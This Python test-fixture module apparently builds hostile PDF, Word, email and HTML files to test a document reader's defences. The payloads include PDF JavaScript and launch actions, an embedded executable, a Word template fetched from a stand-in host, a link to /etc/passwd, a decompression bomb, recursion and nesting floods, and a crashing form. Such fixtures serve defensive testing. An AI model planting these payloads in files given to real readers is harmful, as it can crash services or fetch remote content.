"""Files built to harm whoever reads them, made on the spot."""

import zlib

from tests.app.reading.builders import with_part, word_file

SAID = "Nothing was decided, she said."
_DRAWN = b"BT /F1 12 Tf 20 100 Td (Nothing was decided, she said.) Tj ET"
_HELVETICA = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_WORD = word_file(lambda document: document.add_paragraph(SAID))
_OFFICE = b"http://schemas.openxmlformats.org"


def stream(content, fields=b""):
    return b"<< /Length %d %s >>\nstream\n" % (len(content), fields) + content + b"\nendstream"


def pdf(objects):
    """A PDF of these objects; the first is the catalogue."""
    out, places = b"%PDF-1.7\n", []
    for number, part in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    trailer = b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(out))
    return out + head + table + trailer


def page(content=None, font=_HELVETICA, catalogue=b"", more=()):
    """A PDF of one page that says SAID; `more` are the objects from the sixth on."""
    resources = b"/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >>"
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R %s >>" % resources,
            content or stream(_DRAWN),
            font,
            *more,
        ]
    )


def font(file, fields):
    """A page whose font has `file` as its program."""
    descriptor = b"<< /Type /FontDescriptor /FontName /X /Flags 4 %s 7 0 R >>" % fields
    named = b"<< /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor 6 0 R >>"
    return page(font=named, more=(descriptor, file))


def body(content):
    """A Word file with this as its document's XML, its name space declared."""
    start = b'<w:document xmlns:w="%s/wordprocessingml/2006/main"><w:body>' % _OFFICE
    return with_part(_WORD, "word/document.xml", start + content + b"</w:body></w:document>")


def reaching_out():
    """A Word file whose template and notes are elsewhere."""
    row = b'<Relationship Id="%s" Type="%s/officeDocument/2006/relationships/%s" Target="%s" TargetMode="External"/>'
    rows = row % (b"r1", _OFFICE, b"attachedTemplate", b"http://a.example/x.dotm")
    rows += row % (b"r2", _OFFICE, b"footnotes", b"file:///etc/passwd")
    whole = b'<Relationships xmlns="%s/package/2006/relationships">%s</Relationships>' % (_OFFICE, rows)
    return with_part(_WORD, "word/_rels/document.xml.rels", whole)


_SCRIPT = b"/OpenAction << /S /JavaScript /JS (while(1){} app.launchURL\\('http://a.example'\\)) >> /AA << /WC 6 0 R >>"
_ATTACHED = b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>"
_FILE = (b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", stream(b"MZ" * 100, b"/Type /EmbeddedFile"))
_FORM = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
_TWICE = b"/Filter [/FlateDecode /FlateDecode]"
_ZEROS = zlib.compress(zlib.compress(bytes(1 << 27), 9), 9)

# What still says SAID: nothing in it is run, unpacked or fetched.
HARMLESS = {
    "script.pdf": page(catalogue=_SCRIPT, more=(b"<< /S /Launch /F (calc.exe) >>",)),
    "attached.pdf": page(catalogue=_ATTACHED, more=_FILE),
    "type1.pdf": font(stream(b"%!PS-AdobeFont-1.0\n/Subrs 99999999 array" + b"\xff" * 3000), b"/FontFile"),
    "word_in_it.pdf": page() + _WORD,
    "pdf_in_it.docx": _WORD + page(),
    "reaching_out.docx": reaching_out(),
}
# What is refused, with its reason.
REFUSED = {
    "bomb.pdf": (page(content=stream(_ZEROS, _TWICE)), {"no_text"}),
    "own_parent.pdf": (pdf([b"<< /Pages 2 0 R >>", b"<< /Kids [2 0 R 2 0 R] /Count 1000000 >>"]), {"too_large"}),
    "brackets.pdf": (pdf([b"<< /Pages 2 0 R /X " + b"[" * 100_000 + b" >>", b"<< /Kids [] >>"]), {"damaged"}),
    "runs.docx": (body(b"<w:p>" + b"<w:r>" * 100_000 + b"</w:r>" * 100_000 + b"</w:p>"), {"damaged"}),
    "wide.docx": (body(b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 100_001), {"too_large"}),
    "parts.eml": (
        b"From: a@b\r\nMIME-Version: 1.0\r\nMessage-ID: 1\r\n"
        + b"".join(b"Content-Type: multipart/mixed; boundary=%d\r\n\r\n--%d\r\n" % (n, n) for n in range(5000)),
        {"damaged", "hostile"},
    ),
    "words.eml": (b"From: " + b"=?utf-8?q?x?= " * 50_000 + b"\r\nMessage-ID: 1\r\nSubject: x\r\n\r\nNo.", {"hostile"}),
    "cells.html": (b"<html><body>" + b"<table><tr><td>x" * 99 + b"<p>y</p>" * 60_000, {"too_large"}),
    "deep.html": (b"<html><body>" + b"<div>" * 100_000 + b"x", {"hostile"}),
}
# A form that draws itself, twice: the process that reads it does not live to tell.
CRASHER = page(content=stream(b"/X Do"), more=(stream(b"/X Do /X Do", _FORM),))
FONT = font(stream(b"\x00\x01\x00\x00\xff\xff" + bytes(range(256)) * 20), b"/FontFile2")
